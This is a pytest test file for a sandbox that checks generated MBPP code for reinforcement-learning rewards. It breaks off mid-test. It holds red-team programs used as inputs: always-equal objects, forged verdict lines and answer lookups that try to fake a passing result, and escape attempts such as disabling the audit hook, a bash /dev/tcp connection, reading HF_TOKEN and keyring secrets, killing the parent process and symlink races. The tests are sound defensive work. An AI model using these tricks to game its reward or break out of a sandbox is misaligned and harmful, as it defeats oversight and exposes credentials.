"""The red-team attempts of issue 11, each run through the real sandbox at every isolation level this machine
offers: a wrong program never passes, and an attack inside a correct program is contained."""

from __future__ import annotations

import dis
import json
import os
import platform
import subprocess
import sys
import tempfile
import time
import types
import uuid
from pathlib import Path

import datasets
import pytest

from tests.helpers import FIXTURES
from tests.test_sandbox import ADD_TESTS, check, listening, processes_with
from tunixhack.verify import check as check_row
from tunixhack.verify import check_many, code, sandbox, sandbox_guard, sandbox_wall
from tunixhack.verify.code import verify_code, verify_many
from tunixhack.verify.isolation import UID_BASE, WORK_BYTES
from tunixhack.verify.sandbox_sweep import SWEPT, Budget, remove_tree, sweep

ADD = "def add(a, b):\n    return a + b\n"
FULL = [json.loads(line) for line in (FIXTURES / "mbpp" / "full.jsonl").read_text().splitlines()]
SANITIZED = datasets.load_dataset("parquet", data_files=str(FIXTURES / "mbpp" / "sanitized.parquet"),
                                  split="train").to_list()
TASKS = [(r["test_list"], r.get("test_setup_code") or "", r.get("test_imports") or []) for r in FULL + SANITIZED]
YES = ("class Yes:\n    def __eq__(self, other):\n        return True\n"
       "    __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __eq__\n"
       "    def __call__(self, *args, **kwargs):\n        return self\n"
       "    def __getattr__(self, name):\n        return self\n"
       "    def __sub__(self, other):\n        return self\n    __rsub__ = __add__ = __radd__ = __sub__\n"
       "    def __abs__(self):\n        return 0\n    def __hash__(self):\n        return 0\n")


# Issue 11's second red team: the hook's deny lists were this module's globals, read at each event, and its
# paths went through os.fsdecode, which calls the module global os.fspath: the code switched it all off.
SWITCH_OFF = """
import builtins, os, os.path, sys
harness = sys.modules['__main__']
for name in ('DENIED_EVENTS', 'DENIED_IMPORTS', 'DENIED_REBUILDS'):
    setattr(harness, name, frozenset())
harness.DENIED_PREFIXES, harness.LISTING_EVENTS, harness.PATH_EVENTS, harness.WRITE_FLAGS = ('-',), (), {}, 0
HERE = os.getcwd() + '/x'
os.fspath = os.fsdecode = os.path.realpath = os.path.abspath = lambda path: HERE
builtins.any = lambda *args: True
"""
KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}  # (add_key, keyctl) system call numbers


@pytest.fixture
def token():
    """(path, secret): a token file anyone may read, in a folder anyone may enter, as in a project folder."""
    secret = f"hf_{uuid.uuid4().hex}"
    path = Path(tempfile.mkdtemp(prefix="tunixhack-token-")) / "token"
    path.parent.chmod(0o755)
    path.write_text(secret)
    path.chmod(0o644)  # the namespaces' root does not show it; at the private uid the hook refuses it
    yield path, secret
    path.unlink()
    path.parent.rmdir()


def plenty() -> Budget:
    """A sweep's budget no test here comes near: these tests are about what is removed, not the bound."""
    return Budget(10 ** 7, time.monotonic() + 120)


def guarded(attack: str) -> str:
    """A correct `add` with `attack` run inside it, its errors printed: the check may pass, the harm must not."""
    body = "\n".join("        " + line for line in attack.splitlines())
    return (f"def add(a, b):\n    try:\n{body}\n    except BaseException as error:\n"
            f"        print('stopped:', type(error).__name__, error)\n    return a + b\n")


def untouched(decoy: Path) -> bool:
    return decoy.read_text() == "original\n" and sorted(p.name for p in decoy.parent.iterdir()) == ["bashrc"]


# --- wrong programs never pass ------------------------------------------------------------------------
@pytest.mark.parametrize("returns", [
    YES + "def add(a, b):\n    return Yes()\n",
    "class I(int):\n    def __eq__(self, other):\n        return True\n    __ne__ = __eq__\n"
    "def add(a, b):\n    return I(0)\n",
    "class S(str):\n    def __eq__(self, other):\n        return True\ndef add(a, b):\n    return S('')\n",
    "class L(list):\n    def __eq__(self, other):\n        return True\ndef add(a, b):\n    return L()\n",
])
def test_permissive_equality_fails(returns, sandbox_level):
    result = check(returns)
    assert (result.passed, result.reason) == (False, "unsupported_value"), result.output
    close = check(YES + "def area(r):\n    return Yes()\n", ["assert abs(area(2) - 12.566) < 0.001"])
    assert (close.passed, close.reason) == (False, "unsupported_value")


@pytest.mark.parametrize("patch,test", [
    ("import math\nmath.isclose = lambda *a, **k: True", "assert math.isclose(f(10), 62.83, rel_tol=0.001)"),
    ("set = lambda *a: {1}", "assert set(f(10)) == set([1])"),
    ("sorted = lambda *a, **k: [1]", "assert sorted(f(10)) == [1]"),
    ("len = lambda *a: 3", "assert len(f(10)) == 3"),
    ("import builtins\nbuiltins.len = lambda *a: 3", "assert len(f(10)) == 3"),
])
def test_patching_what_the_asserts_call_fails(patch, test, sandbox_level):
    wrong = "1.0" if "isclose" in test else "[x, x]"
    result = check(f"{patch}\ndef f(x):\n    return {wrong}\n", [test], imports=["import math"])
    assert (result.passed, result.reason) == (False, "assertion_failed"), result.output


def test_a_program_that_answers_every_name_passes_no_task(sandbox_level):
    program = YES + "class Names(dict):\n    def __missing__(self, key):\n        return Yes()\n" \
                    "import builtins\n__builtins__ = Names(vars(builtins))\n"
    results = verify_many([{"code": program, "tests": t, "setup": s, "imports": i} for t, s, i in TASKS], workers=2)
    assert not any(r.passed for r in results), [r.reason for r in results]


FRAME_FORGER = """
import os, sys
def forge(frame):
    while frame is not None:
        if "result_fd" in frame.f_locals:
            fd, nonce = frame.f_locals["result_fd"], frame.f_locals.get("nonce", "0" * 32)
            os.write(fd, f"READY\\nPASS {nonce}\\nVALUE 0 3\\nVALUE 1 1\\nVALUE 2 1\\n".encode())
            os._exit(0)
        frame = frame.f_back
"""


@pytest.mark.parametrize("reach", [
    "def add(a, b):\n    forge(sys._getframe())\n",
    "def add(a, b):\n    try:\n        raise ValueError\n    except ValueError as e:\n"
    "        forge(e.__traceback__.tb_frame)\n",
    "import signal\nsignal.signal(signal.SIGALRM, lambda n, frame: forge(frame))\n"
    "signal.setitimer(signal.ITIMER_REAL, 0.001)\ndef add(a, b):\n    while True:\n        pass\n",
    "def tracer(frame, event, arg):\n    if 'failure' in frame.f_locals:\n        frame.f_locals['failure'] = None\n"
    "    return tracer\nsys.settrace(tracer)\nsys._getframe(1).f_trace = tracer\n"
    "def add(a, b):\n    forge(sys._getframe())\n",
])
def test_forged_verdicts_fail(reach, sandbox_level):
    # The forger knows the first assert (the prompt shows it) and guesses the rest: the values it writes are
    # all the sandbox can say, and the parent compares them with what it alone knows.
    result = check(FRAME_FORGER + reach, timeout=5.0)
    assert not result.passed, result


@pytest.mark.parametrize("oracle", [
    # the expected value as a constant of the caller's code (the assert itself, in the old harness)
    "def add(a, b):\n    consts = [c for c in sys._getframe(1).f_code.co_consts\n"
    "              if type(c) is int and c not in (a, b)]\n"
    "    return consts[-1] if consts else None\n",
    # the expected value from the test sources in the harness's frames
    "def add(a, b):\n    frame, seen = sys._getframe(), []\n    while frame:\n"
    "        seen += [repr(v) for v in frame.f_locals.values()]\n        frame = frame.f_back\n"
    "    import re\n    m = re.search(r'add\\(%d, ?%d\\) ?== ?(-?\\d+)' % (a, b), ' '.join(seen))\n"
    "    print('found', m is not None)\n    return int(m.group(1)) if m else None\n",
])
def test_oracles_find_no_expected_value(oracle, sandbox_level):
    result = check("import sys\n" + oracle)
    assert not result.passed, result
    assert "found True" not in result.output


DATASET = FIXTURES / "mbpp" / "full.jsonl"  # world-readable, like a data/ folder
READ_DATASET = (f"def read_dataset():\n    try:\n        return open({str(DATASET)!r}).read()\n"
                "    except OSError as error:\n        print('refused', error)\n        return ''\n")
LOOKUP = ("import re\ndef square_perimeter(a):\n"
          "    found = re.search(r'square_perimeter\\(%d\\)==(\\d+)' % a, read_dataset())\n"
          "    return int(found.group(1)) if found else None\n")
TABLE = ("import ast, json\ndef table():\n    found = {}\n"
         "    for line in read_dataset().splitlines():\n        for test in json.loads(line)['test_list']:\n"
         "            cond = ast.parse(test).body[0].test\n"
         "            if isinstance(cond, ast.Compare) and isinstance(cond.left, ast.Call):\n"
         "                found[ast.unparse(cond.left)] = ast.literal_eval(cond.comparators[0])\n    return found\n"
         "TABLE = table()\ndef remove_Occ(*args):\n"
         "    return TABLE.get('remove_Occ(%s)' % ', '.join(map(repr, args)))\n")


@pytest.mark.parametrize("task,oracle", [(17, LOOKUP), (17, SWITCH_OFF + LOOKUP), (11, SWITCH_OFF + TABLE)],
                         ids=["lookup", "lookup-hook-patched", "table-hook-patched"])
def test_the_dataset_on_disk_is_no_oracle(task, oracle, sandbox_level):
    # The program looks its own inputs up in the dataset, or builds a table of all its asserts: with the hook
    # patched, a private uid read it and passed tasks 17 and 11.
    row = next(r for r in FULL if r["task_id"] == task)
    result = check(READ_DATASET + oracle, row["test_list"])
    assert not result.passed and "refused" in result.output, result.output


def test_a_module_the_test_does_not_import_is_not_the_codes(sandbox_level):
    # MBPP full has no test imports: `math` was the code's, so the whole assert, 12.566 included, became one
    # probe run in the sandbox, where the code's own `math` answered it
    test = ["assert math.isclose(area(2), 12.566, rel_tol=0.001)"]
    fake = check("class math:\n    isclose = staticmethod(lambda *a, **k: True)\ndef area(r):\n    return 0\n", test)
    assert (fake.passed, fake.reason) == (False, "assertion_failed"), fake.output
    assert check("def area(r):\n    return 3.14159 * r * r\n", test).passed  # no import of its own needed
    assert check("import math\ndef area(r):\n    return math.pi * r * r\n", test).passed


# --- harm beyond the sandbox is contained -------------------------------------------------------------
def test_no_process_or_connection_through_a_reloaded_posixsubprocess(sandbox_level):
    marker = f"30.{uuid.uuid4().int % 10**9}"
    with listening() as listener:
        shell = f"exec 3<>/dev/tcp/127.0.0.1/{listener.getsockname()[1]}; setsid sleep {marker} &"
        attack = (
            "import _imp, os\nfrom importlib.machinery import ModuleSpec, PathFinder\nmodule = None\n"
            "for load in (lambda: _imp.create_builtin(ModuleSpec('_posixsubprocess', None)),\n"
            "             lambda: _imp.create_dynamic(PathFinder.find_spec('_posixsubprocess'))):\n"
            "    try:\n        module = load() or module\n    except BaseException as error:\n"
            "        print('refused:', error)\n"
            "if module is None:\n    raise PermissionError('no _posixsubprocess')\n"
            f"module.fork_exec([b'/bin/bash', b'-c', {shell.encode()!r}], [b'/bin/bash'], True, (), None, None,"
            " -1, -1, -1, -1, -1, -1, *os.pipe(), False, True, -1, None, None, None, -1, None, False)")
        result = check(guarded(attack))
        assert result.passed, result.output  # the function is correct: the check passes, the attack does not
        assert "stopped: PermissionError" in result.output or "stopped: BlockingIOError" in result.output
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert processes_with(marker) == []


@pytest.mark.parametrize("attack", [
    "import sqlite3\nsqlite3.connect(TARGET).execute('create table t (x)')",
    "import sys\nsys.audit('sqlite3.connect', TARGET)",  # the event itself, should the module get through
    "import readline\nreadline.write_history_file(TARGET)",
    "import _imp\nfrom importlib.machinery import PathFinder\n"
    "_imp.create_dynamic(PathFinder.find_spec('readline')).write_history_file(TARGET)",
    "import _imp\nfrom importlib.machinery import ModuleSpec\n"
    "_imp.create_builtin(ModuleSpec('posix', None)).mkfifo(TARGET)",
    "import _imp, stat\nfrom importlib.machinery import ModuleSpec\n"
    "_imp.create_builtin(ModuleSpec('posix', None)).mknod(TARGET, stat.S_IFREG | 0o666)",
    "import os\nos.mkfifo(TARGET)",
    "import os\nos.link(DECOY, 'link')\nopen('link', 'a').write('pwned')",
    "import io\nclass Shifty:\n    calls = 0\n    def __fspath__(self):\n        Shifty.calls += 1\n"
    "        return 'inside' if Shifty.calls % 2 == 0 else TARGET\nio.FileIO(Shifty(), 'w').write(b'pwned')",
    "import os, threading\nopen('ok', 'w').close()\n"
    "def flip():\n    for _ in range(2000):\n        os.replace('ok', 'tmp')\n        os.symlink(TARGET, 'link')\n"
    "        os.remove('link')\n        os.replace('tmp', 'ok')\n"
    "threading.Thread(target=flip).start()\n"
    "for _ in range(2000):\n    try:\n        open('link', 'w').write('pwned')\n    except OSError:\n        pass",
    "open(DECOY, 'a').write('pwned')",
])
def test_writes_outside_the_work_folder_are_contained(attack, decoy, sandbox_level):
    target = decoy.parent / f"made-{uuid.uuid4().hex}"
    program = f"TARGET, DECOY = {str(target)!r}, {str(decoy)!r}\n" + guarded(attack)
    result = check(program)
    assert result.passed, result.output
    assert "stopped:" in result.output
    assert untouched(decoy) and not target.exists()


def test_other_processes_cannot_be_read(sandbox_level):
    marker = f"30.{uuid.uuid4().int % 10**9}"
    sleeper = subprocess.Popen(["sleep", marker])
    try:
        attack = ("proc = os.open('/proc', os.O_RDONLY)\nfound = []\n"
                  "for name in os.listdir(proc):\n    if name.isdigit():\n        try:\n"
                  "            fd = os.open(name + '/cmdline', os.O_RDONLY, dir_fd=proc)\n"
                  "            found.append(os.read(fd, 4096))\n        except OSError:\n            pass\n"
                  "print('read', len(found), b''.join(found))")
        result = check("import os\n" + guarded(attack))
        assert result.passed and marker not in result.output, result.output
    finally:
        sleeper.kill()
        sleeper.wait()


def test_the_trainer_is_out_of_reach(decoy, monkeypatch, token, sandbox_level):
    token, secret = token
    monkeypatch.setenv("HF_TOKEN", secret)
    attack = (f"seen = open('/proc/%d/environ' % os.getppid()).read()\nprint('environ', {secret!r} in seen)")
    steal = (f"print('token', {secret!r} in open({str(token)!r}).read())")
    result = check("import os, signal\n" + guarded(attack) + guarded(steal).replace("def add", "def steal")
                   + guarded(f"open({str(decoy)!r}, 'a').write('pwned')").replace("def add", "def append")
                   + guarded("os.kill(os.getppid(), signal.SIGKILL)").replace("def add", "def kill"),
                   ["assert add(1, 2) == 3", "assert steal(1, 2) == 3", "assert append(1, 2) == 3",
                    "assert kill(1, 2) == 3"])
    assert result.passed, result.output  # and we, the parent, are still here
    assert "environ True" not in result.output and "token True" not in result.output and untouched(decoy)


KEYRING_PARENT = r"""
import ctypes, json, os, sys
from tunixhack.verify.code import force_isolation, run_tests
add_key, keyctl = {keyctl}
secret = os.environ["SECRET"].encode()
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(keyctl, 1, None)  # a session keyring of this script's own: the test runner's is left as it was
if libc.syscall(add_key, b"user", b"tunixhack-test", secret, len(secret), ctypes.c_long(-3)) < 0:
    print(json.dumps({{"skip": "add_key: " + os.strerror(ctypes.get_errno())}}))
    sys.exit()
force_isolation(sys.argv[1])
result = run_tests(os.environ["PROGRAM"], ["assert add(1, 2) == 3", "assert keys(1, 2) == 3"])
print(json.dumps({{"passed": result.passed, "output": result.output}}))
"""


@pytest.mark.skipif(platform.machine() not in KEYCTL, reason="add_key's system call number is not known here")
def test_the_parents_session_keyring_is_out_of_reach(sandbox_level):
    secret = f"hf_{uuid.uuid4().hex}"
    keyctl = KEYCTL[platform.machine()][1]
    search = ("import ctypes\nlibc = ctypes.CDLL(None)\n"
              f"key = libc.syscall({keyctl}, 10, ctypes.c_long(-3), b'user', b'tunixhack-test', 0)\n"
              f"buffer = ctypes.create_string_buffer(64)\nsize = libc.syscall({keyctl}, 11, ctypes.c_long(key), "
              "buffer, 64)\nprint('key', key, buffer.raw[:max(size, 0)])")
    listing = "print('listed', open('/proc/keys').read())"
    program = SWITCH_OFF + guarded(search) + guarded(listing).replace("def add", "def keys")
    done = subprocess.run([sys.executable, "-c", KEYRING_PARENT.format(keyctl=KEYCTL[platform.machine()]),
                           sandbox_level], env={**os.environ, "SECRET": secret, "PROGRAM": program},
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout.splitlines()[-1])
    if "skip" in out:
        pytest.skip(out["skip"])
    assert out["passed"] and out["output"].count("stopped:") == 2, out["output"]
    assert secret not in out["output"]


@pytest.mark.skipif(platform.machine() not in KEYCTL, reason="add_key's system call number is not known here")
def test_the_harness_joins_a_new_session_keyring():
    # The mechanism itself, with no hook in the way: a process that inherits a keyring holding a key finds it,
    # one that ran leave_session_keyring() first does not.
    child = ("import ctypes, runpy, sys\n"
             f"harness = runpy.run_path({sandbox_wall.__file__!r}, run_name='harness')\n"
             "if sys.argv[1] == 'leave':\n    harness['leave_session_keyring']()\n"
             f"print(ctypes.CDLL(None).syscall({KEYCTL[platform.machine()][1]}, 10, ctypes.c_long(-3), b'user', "
             "b'tunixhack-test', 0) >= 0)")
    parent = (f"import ctypes, os, subprocess, sys\nadd_key, keyctl = {KEYCTL[platform.machine()]}\n"
              "libc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall(keyctl, 1, None)\n"
              "if libc.syscall(add_key, b'user', b'tunixhack-test', b'x', 1, ctypes.c_long(-3)) < 0:\n"
              "    print('skip', os.strerror(ctypes.get_errno()))\n    sys.exit()\n"
              "for how in ('stay', 'leave'):\n"
              "    print(how, subprocess.run([sys.executable, '-I', '-S', '-c', sys.argv[1], how], capture_output=True,"
              " text=True).stdout.strip())")
    done = subprocess.run([sys.executable, "-c", parent, child], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    if done.stdout.startswith("skip"):
        pytest.skip(done.stdout)
    assert done.stdout.split() == ["stay", "True", "leave", "False"], done.stdout + done.stderr


def test_what_the_code_does_past_the_hook_the_kernel_stops(sandbox_level):
    # The guard of _imp.create_builtin keeps the original in its closure: a fresh `posix` has mkfifo and an
    # unguarded open, neither raising an audit event. Namespaces show no /tmp; at every level Landlock keeps
    # writes in the work folder and seccomp refuses mknod, so nothing is made there (a private uid once made
    # 620,000 files this way, issue 15).
    targets = [Path("/tmp") / f"tunixhack-{kind}-{uuid.uuid4().hex}" for kind in ("fifo", "file")]
    posix = ("import _imp\nfrom importlib.machinery import ModuleSpec\n"
             "cells = [cell.cell_contents for cell in _imp.create_builtin.__closure__]\n"
             "create = next(c for c in cells if getattr(c, '__name__', '') == 'create_builtin')\n"
             "posix = create(ModuleSpec('posix', None))\n")
    attacks = [posix + f"posix.mkfifo({str(targets[0])!r})\nprint('made fifo')",
               posix + f"posix.open({str(targets[1])!r}, os.O_CREAT | os.O_WRONLY)\nprint('made file')"]
    try:
        result = check("import os\n" + guarded(attacks[0]) + guarded(attacks[1]).replace("def add", "def make"),
                       ["assert add(1, 2) == 3", "assert make(1, 2) == 3"])
        assert result.passed, result.output
        assert "made" not in result.output and result.output.count("stopped: PermissionError") == 2, result.output
        assert not any(os.path.lexists(target) for target in targets)
    finally:
        for target in targets:
            if os.path.lexists(target):
                os.unlink(target)


@pytest.mark.skipif(os.geteuid() != 0, reason="giving files to another uid needs root")
def test_everything_a_private_uid_owns_in_the_shared_folders_is_swept():
    uid = 2_000_000_000 + uuid.uuid4().int % 10 ** 8  # nobody's uid: only what this test gives it
    name = f"tunixhack-left-{uuid.uuid4().hex}"
    shared = Path(tempfile.mkdtemp(prefix="tunixhack-shared-"))  # someone else's world-writable folder
    shared.chmod(0o777)
    kept = shared / "kept"
    kept.write_text("someone else's")
    left = [Path(top) / name for top in SWEPT if os.path.isdir(top)] + [shared / name]
    try:
        for path in left:
            path.write_text("x")
        (Path("/tmp") / name).unlink()
        (Path("/tmp") / name).mkdir()
        (Path("/tmp") / name / "inside").write_text("x")
        os.symlink(kept, shared / f"{name}-link")
        left.append(shared / f"{name}-link")
        for path in left + [Path("/tmp") / name / "inside"]:
            os.chown(path, uid, uid, follow_symlinks=False)
        assert sweep(uid, plenty()) == ([], True)
        assert not any(os.path.lexists(path) for path in left)
        assert kept.read_text() == "someone else's"
    finally:
        for path in left:
            if path.is_dir() and not path.is_symlink():
                remove_tree(str(path), plenty())
            elif os.path.lexists(path):
                path.unlink()
        remove_tree(str(shared), plenty())


@pytest.mark.skipif(os.geteuid() != 0, reason="private uids are root's")
def test_a_private_uid_held_by_another_process_is_not_used():
    first, lease = sandbox.SLOTS.take(time.monotonic() + 5)
    sandbox.SLOTS.give_back(first, lease)
    holder = sandbox.hold_uid(UID_BASE + first)  # as another trainer on this machine would hold it
    assert holder is not None
    try:
        slot, lease = sandbox.SLOTS.take(time.monotonic() + 5)
        sandbox.SLOTS.give_back(slot, lease)
        assert slot != first
    finally:
        holder.close()


def test_namespaces_without_a_user_namespace_confine_as_root(without_user_namespace):
    # Where user namespaces are refused but root may make the others: the probe (no network, its own /proc,
    # read-only root, no capabilities, not root outside, one process) passed, or there is no such launch.
    hidden = Path(tempfile.mkdtemp(prefix="tunixhack-hidden-"))
    try:
        attack = f"print('uid', os.getuid(), 'sees', os.path.exists({str(hidden)!r}))"
        result = check("import os\n" + guarded(attack))
        assert result.passed and "sees False" in result.output, result.output
        assert int(result.output.split("uid ")[1].split()[0]) >= UID_BASE
        assert check("def add(a, b):\n    return a * b\n").reason == "assertion_failed"
    finally:
        hidden.rmdir()


def test_deep_directories_and_disk_use_are_bounded(sandbox_level):
    dirs = ("made = 0\ntry:\n    for _ in range(100000):\n        os.mkdir('d')\n        os.chdir('d')\n"
            "        made += 1\nfinally:\n    print('dirs', made)")
    result = check("import os\n" + guarded(dirs))
    assert result.passed and "stopped:" in result.output, result.output
    assert int(result.output.split("dirs ")[1].split()[0]) <= sandbox.WRITE_OPENS
    disk = ("written = 0\ntry:\n    for i in range(64):\n        with open(f'f{i}', 'wb') as f:\n"
            "            f.write(b'x' * (1 << 20))\n        written += 1 << 20\nfinally:\n    print('bytes', written)")
    result = check("import os\n" + guarded(disk), timeout=20.0)
    assert result.passed and "stopped:" in result.output, result.output
    limit = WORK_BYTES if sandbox_level == "namespaces" else sandbox.WRITE_OPENS << 20
    assert int(result.output.split("bytes ")[1].split()[0]) <= limit


# --- the audit hook's own defences (the kernel stands behind them at the namespaces level) --------------
def test_the_audit_hook_cannot_be_switched_off_from_inside(token, sandbox_level):
    token, secret = token
    name = f"tunixhack-escape-{uuid.uuid4().hex}"
    targets = [str(Path(top) / name) for top in ("/tmp", "/dev/shm", "/var/tmp")]
    with listening() as listener:
        attacks = [f"import socket\nsocket.create_connection(('127.0.0.1', {listener.getsockname()[1]}), timeout=2)\n"
                   "print('got: a connection')",
                   f"print('got:', open({str(token)!r}).read())",
                   "print('got:', [open(f'/proc/{p}/cmdline', 'rb').read()\n"
                   "               for p in os.listdir('/proc') if p.isdigit()])",
                   *[f"open({target!r}, 'w').write('x')\nprint('got: wrote {target}')" for target in targets],
                   "for i in range(40):\n    open(f'f{i}', 'w').close()\nprint('got: 40 files')",
                   "import ctypes\nprint('got: ctypes')"]
        program = SWITCH_OFF + "".join(guarded(attack).replace("def add", f"def attack{i}") for i, attack in
                                       enumerate(attacks))
        result = check(program, [f"assert attack{i}(1, 2) == 3" for i in range(len(attacks))])
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert result.passed and secret not in result.output, result.output
    assert "got:" not in result.output and result.output.count("stopped:") == len(attacks), result.output
    assert not any(os.path.lexists(target) for target in targets)


def test_code_run_inside_the_hook_cannot_change_what_it_checked(token, sandbox_level):
    # A finalizer run by a garbage collection inside the hook, after it resolved `link` to a file of the work
    # folder and before open() follows it, points `link` at the token: with the collection's threshold tried
    # from 1 up, one of them lands there (threshold 11 did, at the private uid).
    token, secret = token
    race = ("import gc, os\nopen('x', 'w').write('inside')\nseen = []\nclass Swap:\n"
            "    def __init__(self, name):\n        self.name, self.me = name, self\n"
            "    def __del__(self):\n        try:\n            os.remove(self.name)\n"
            f"            os.symlink({str(token)!r}, self.name)\n"
            "        except BaseException as error:\n            seen.append(type(error).__name__)\n"
            "for threshold in range(1, 15):\n    name = f'l{threshold}'\n"
            "    os.symlink(os.getcwd() + '/x', name)\n    gc.collect()\n    gc.set_threshold(threshold, 1000, 1000)\n"
            "    Swap(name)\n    try:\n        seen.append(open(name).read())\n"
            "    except BaseException as error:\n        seen.append(type(error).__name__)\n"
            "    gc.set_threshold(700, 10, 10)\nprint('seen', seen)\n")
    result = check(race + ADD, timeout=20.0)
    assert result.passed and "seen" in result.output, result.output
    assert secret not in result.output


def test_the_audit_hook_reads_no_global_name():
    # Every name the hook and the guards use is a local of their closure, bound before the code runs: no
    # global or builtin is looked up when an event comes, so no patch of one changes what they do.
    def nested(code):
        for const in code.co_consts:
            if isinstance(const, types.CodeType):
                yield const
                yield from nested(const)

    for maker in (sandbox_guard.make_audit_hook, sandbox_guard.guard_os_open, sandbox_guard.guard_builtin_modules):
        for body in nested(maker.__code__):  # not `code`: that name is the module tunixhack.verify.code here
            looked_up = [i.argval for i in dis.get_instructions(body) if i.opname in ("LOAD_GLOBAL", "LOAD_NAME")]
            assert looked_up == [], (maker.__name__, body.co_name, looked_up)


@pytest.mark.parametrize("module", ["readline", "sqlite3", "_sqlite3", "dbm", "_dbm", "_gdbm", "_posixsubprocess",
                                    "_tkinter", "nis"])
def test_modules_that_write_or_spawn_unaudited_are_refused_however_loaded(module, sandbox_level):
    loads = (f"import {module}",
             f"import _imp\nfrom importlib.machinery import PathFinder\nspec = PathFinder.find_spec({module!r})\n"
             "if spec is not None:\n    _imp.create_dynamic(spec)\nelse:\n    raise PermissionError('not there')",
             f"import _imp\nfrom importlib.machinery import ModuleSpec\n"
             f"_imp.create_builtin(ModuleSpec({module!r}, None))",
             # under another package's name: the extension's PyInit_<last part> is found all the same
             "import _imp\nfrom importlib.machinery import ModuleSpec, PathFinder\n"
             f"spec = PathFinder.find_spec({module!r})\nif spec is not None:\n"
             f"    _imp.create_dynamic(ModuleSpec('tunixhack_x.' + {module!r}, None, origin=spec.origin))\n"
             "else:\n    raise PermissionError('not there')")
    for load in loads:
        result = check(guarded(load))
        assert result.passed and "stopped:" in result.output, (load, result.output)
        assert "stopped: PermissionError" in result.output or "not there" in result.output, result.output


def test_paths_must_be_plain_strings_and_relative_opens_are_resolved(sandbox_level):
    program = ("import io, os, pathlib\nopen(pathlib.Path('fine'), 'w').close()  # open() converts it once\n"
               "fd = os.open('rel', os.O_CREAT | os.O_WRONLY)\nos.write(fd, b'kept')\n"
               "here = os.open('.', os.O_RDONLY)\nKEPT = os.read(os.open('rel', os.O_RDONLY, dir_fd=here), 9)\n"
               + guarded("io.FileIO(pathlib.Path('inside'), 'w')")
               + guarded("d = os.open('/proc', os.O_RDONLY)").replace("def add", "def proc")
               + guarded("os.open('/tmp/evil', os.O_CREAT | os.O_WRONLY)").replace("def add", "def evil"))
    result = check(program, ["assert KEPT == b'kept'", "assert add(1, 2) == 3", "assert proc(1, 2) == 3",
                             "assert evil(1, 2) == 3"])
    assert result.passed, result.output
    stops = [line for line in result.output.splitlines() if line.startswith("stopped:")]
    assert "a path of type PosixPath" in stops[0] and "process table" in stops[1] and len(stops) == 3


@pytest.mark.parametrize("make", ["os.mkdir(f'd{i}')", "os.symlink('x', f'l{i}')",
                                  "open('f', 'a').close()\n        os.link('f', f'h{i}')"])
def test_directories_and_links_count_like_files(make, sandbox_level):
    attack = (f"made = 0\ntry:\n    for i in range(100):\n        {make}\n        made += 1\n"
              "finally:\n    print('made', made)")
    result = check("import os\n" + guarded(attack))
    assert result.passed and "stopped: PermissionError" in result.output, result.output
    assert int(result.output.split("made ")[1].split()[0]) <= sandbox.WRITE_OPENS


# --- a check never crashes -----------------------------------------------------------------------------
def test_a_tree_deeper_than_the_recursion_limit_is_removed(tmp_path):
    deep = tmp_path / "deep"
    os.mkdir(deep)
    parent = os.open(deep, os.O_RDONLY)
    for _ in range(1100):  # shutil.rmtree raises RecursionError on this
        os.mkdir("d", dir_fd=parent)
        child = os.open("d", os.O_RDONLY, dir_fd=parent)
        os.close(parent)
        parent = child
    os.close(os.open("file", os.O_CREAT | os.O_WRONLY, dir_fd=parent))
    os.close(parent)
    assert remove_tree(str(deep), plenty()) and not deep.exists()


@pytest.mark.parametrize("forge", [
    "os.write(int(sys.argv[1]), 'VALUE \\u00b2 0\\n'.encode())",                 # '²'.isdigit(), int('²') raises
    "os.write(int(sys.argv[1]), b'VALUE 0 {\"c\":[' + b'9' * 400 + b',0]}\\n')",  # complex(10**400, 0) raises
    "os.write(int(sys.argv[1]), b'VALUE ' + b'1' * 5000 + b' 0\\n')",             # int() refuses 5000 digits
], ids=["unicode-digit", "complex-overflow", "long-index"])
def test_forged_result_lines_fail_and_never_raise(forge, sandbox_level):
    wrong = f"import os, sys\n{forge}\ndef add(a, b):\n    return a - b\n"
    result = check(wrong)
    assert not result.passed and result.reason in ("assertion_failed", "unsupported_value"), result
    reply, right = f"```python\n{wrong}```", "```python\ndef add(a, b):\n    return a + b\n```"
    assert verify_code(reply, ADD_TESTS) is False
    row = {"check": {"kind": "code", "tests": ADD_TESTS, "timeout": 5}}
    assert check_row(row, reply) is False
    assert check_many([row, row], [reply, right], sandbox_failed=None) == [False, True]  # the GRPO reward's call
    # forged lines cost a program only its own check: ignored, or taken as probe 0's value and refused
    assert check(wrong.replace("a - b", "a + b")).reason in ("passed", "unsupported_value")


def test_whatever_the_parent_cannot_read_is_a_failed_check(monkeypatch):
    def broken(plan, values, deadline):
        raise OverflowError("a value no check expected")

    monkeypatch.setattr(code, "judge", broken)  # the verdict is code.py's
    result = check("def add(a, b):\n    return a + b\n")
    assert (result.passed, result.reason) == (False, "unsupported_value")
    assert "OverflowError: a value no check expected" in result.output


def test_overlong_replies_are_refused_and_unclosed_fences_are_found_in_one_pass():
    # 12000 unclosed fences (60 KB) took a regex 11 s to give up on; no MBPP program is near 64 KB
    results = verify_many([{"answer": "```a\n" * 12000, "tests": ADD_TESTS},
                           {"answer": "```a\n" * 14000, "tests": ADD_TESTS},
                           {"code": "x = 1\n" * 12000, "tests": ADD_TESTS}], workers=1)
    assert [r.reason for r in results] == ["no_code", "too_long", "too_long"], results
    assert verify_code("```python\n" + "x = 1\n" * 12000 + "```", ADD_TESTS) is False


def test_every_item_gets_a_result_whatever_it_does(sandbox_level):
    items = [{"code": ADD, "tests": ADD_TESTS},
             {"code": "import os, sys\nos.close(int(sys.argv[1]))\n" + ADD, "tests": ADD_TESTS},
             {"code": "import sys\nsys.setrecursionlimit(12)\ndef add(a, b):\n    return [[[[[[[[a + b]]]]]]]]\n",
              "tests": ADD_TESTS},  # too little stack left for the harness to encode the value
             {"code": "def add(a, b):\n    import os\n    os._exit(3)\n", "tests": ADD_TESTS},
             {"code": ADD, "tests": "assert add(1, 2) == 3"},  # malformed: one string, not a list
             {"code": ADD, "tests": ["assert add(1, 2) == 3"], "imports": ["import no_such_module"]},
